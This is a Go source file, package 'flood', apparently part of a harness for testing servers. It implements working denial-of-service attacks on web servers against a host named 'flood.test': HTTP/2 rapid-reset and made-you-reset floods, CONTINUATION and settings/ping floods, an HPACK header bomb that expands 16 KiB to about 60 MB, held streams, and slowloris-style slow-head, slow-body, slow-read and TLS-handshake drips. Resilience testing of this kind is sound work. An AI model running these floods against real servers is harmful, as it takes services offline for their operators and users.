package flood

import (
	"bufio"
	"bytes"
	"io"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attacks are those of HTTP/2 that have names, and the slow ones.
func attacks() []attack {
	return []attack{
		{name: "rapid-reset", conns: 4, once: flood(func(f *frames, id uint32) error {
			if err := f.head(id, true); err != nil {
				return err
			}
			return f.WriteRSTStream(id, http2.ErrCodeCancel)
		})},
		{name: "made-you-reset", conns: 4, once: flood(func(f *frames, id uint32) error {
			if err := f.head(id, false); err != nil {
				return err
			}
			return f.WriteRawFrame(http2.FrameWindowUpdate, 0, id, make([]byte, 4)) // of nothing, which is an error
		})},
		{name: "continuation", conns: 4, once: flood(func(f *frames, id uint32) error {
			if id == 1 {
				return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.block()})
			}
			return f.WriteContinuation(1, false, nil)
		})},
		{name: "continuation-large", conns: 4, once: flood(func(f *frames, id uint32) error {
			if id == 1 {
				return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.block()})
			}
			f.encoded.Reset()
			_ = f.encoder.WriteField(hpack.HeaderField{Name: "x-padding", Value: strings.Repeat("y", 12_000), Sensitive: true})
			return f.WriteContinuation(1, false, f.encoded.Bytes())
		})},
		{name: "settings", conns: 4, once: flood(func(f *frames, id uint32) error { return f.WriteSettings() })},
		{name: "ping", conns: 4, once: flood(func(f *frames, id uint32) error { return f.WritePing(false, [8]byte{}) })},
		{name: "unread-pings", conns: 50, once: unread(func(f *frames, id uint32) error { return f.WritePing(false, [8]byte{}) })},
		{name: "empty-data", conns: 4, once: flood(func(f *frames, id uint32) error {
			if id == 1 {
				return f.head(1, false)
			}
			return f.WriteData(1, false, nil)
		})},
		{name: "header-bomb", conns: 4, once: flood(func(f *frames, id uint32) error { return f.bomb(id) })},
		{name: "large-heads", conns: 50, once: held(100, func(f *frames, id uint32) error {
			if err := f.head(id, false, strings.Repeat("y", 12_000)); err != nil {
				return err
			}
			return f.WriteData(id, false, make([]byte, 100))
		})},
		{name: "held-requests", conns: 50, once: held(100, func(f *frames, id uint32) error {
			if err := f.head(id, false); err != nil {
				return err
			}
			return f.WriteData(id, false, make([]byte, 100))
		})},
		{name: "slow-read-http2", conns: 20, narrow: true, once: held(100, func(f *frames, id uint32) error {
			if id == 1 {
				if err := f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1}); err != nil {
					return err
				}
			}
			f.path = "/big"
			return f.head(id, true)
		})},
		{name: "slow-head", conns: 1000, once: drip("GET /"+strings.Repeat("a", 1000), "b")},
		{name: "slow-body", conns: 1000, once: drip("POST / HTTP/1.1\r\nHost: flood.test\r\nContent-Length: 1000000\r\n\r\n"+strings.Repeat("a", 1000), "b")},
		{name: "slow-read", conns: 500, narrow: true, once: drip("GET /big HTTP/1.1\r\nHost: flood.test\r\n\r\n", "")},
		{name: "slow-handshake", conns: 1000, tls: true, once: drip("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", "a")},
	}
}

// frames are those of one connection of an enemy.
type frames struct {
	*http2.Framer
	out     *bufio.Writer
	encoder *hpack.Encoder
	encoded bytes.Buffer
	path    string
}

func (e *enemy) frames() (*frames, error) {
	f := &frames{out: bufio.NewWriterSize(e, 4<<10), path: "/"}
	f.Framer = http2.NewFramer(f.out, e)
	f.AllowIllegalWrites = true
	f.encoder = hpack.NewEncoder(&f.encoded)
	if _, err := f.out.WriteString(http2.ClientPreface); err != nil {
		return nil, err
	}
	return f, f.WriteSettings()
}

// block is a request head.
func (f *frames) block(extra ...string) []byte {
	f.encoded.Reset()
	for _, h := range [...]hpack.HeaderField{{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"}, {Name: ":authority", Value: "flood.test"}, {Name: ":path", Value: f.path}} {
		_ = f.encoder.WriteField(h) // to a buffer
	}
	for _, v := range extra {
		_ = f.encoder.WriteField(hpack.HeaderField{Name: "x-padding", Value: v, Sensitive: true})
	}
	return f.encoded.Bytes()
}

func (f *frames) head(id uint32, end bool, extra ...string) error {
	return f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: f.block(extra...), EndStream: end, EndHeaders: true})
}

// bomb is a head that is 16 KiB on the wire and 60 MB when it is unpacked: one field of the size of the table, named again
// and again by its number.
func (f *frames) bomb(id uint32) error {
	f.block()
	if id == 1 {
		_ = f.encoder.WriteField(hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("y", 4000)})
	}
	head := append(bytes.Clone(f.encoded.Bytes()), bytes.Repeat([]byte{0x80 | 62}, 15<<10)...)
	return f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head, EndStream: true, EndHeaders: true})
}

// flood sends as fast as it may, and reads what comes back.
func flood(send func(f *frames, id uint32) error) func(*enemy) error {
	return func(e *enemy) error {
		go func() { _, _ = io.Copy(io.Discard, e) }() // ends with the connection
		return unread(send)(e)
	}
}

// unread is flood without reading.
func unread(send func(f *frames, id uint32) error) func(*enemy) error {
	return func(e *enemy) error {
		f, err := e.frames()
		for id := uint32(1); err == nil && id < 1<<30; id += 2 {
			e.pace()
			err = send(f, id)
		}
		return err
	}
}

// held opens so many streams, and then waits. What comes back is read: the frames, not what their windows do not let pass.
func held(streams int, open func(f *frames, id uint32) error) func(*enemy) error {
	return func(e *enemy) error {
		f, err := e.frames()
		for i := 0; err == nil && i < streams; i++ {
			e.pace()
			err = open(f, uint32(2*i+1))
		}
		if err != nil {
			return err
		}
		if err := f.out.Flush(); err != nil {
			return err
		}
		_, err = io.Copy(io.Discard, e)
		return err
	}
}

// drip sends the beginning of something, and then a little of it now and then. It reads nothing.
func drip(first, more string) func(*enemy) error {
	return func(e *enemy) error {
		_, err := io.WriteString(e, first)
		for err == nil {
			time.Sleep(500 * time.Millisecond)
			e.pace()
			_, err = io.WriteString(e, more)
		}
		return err
	}
}
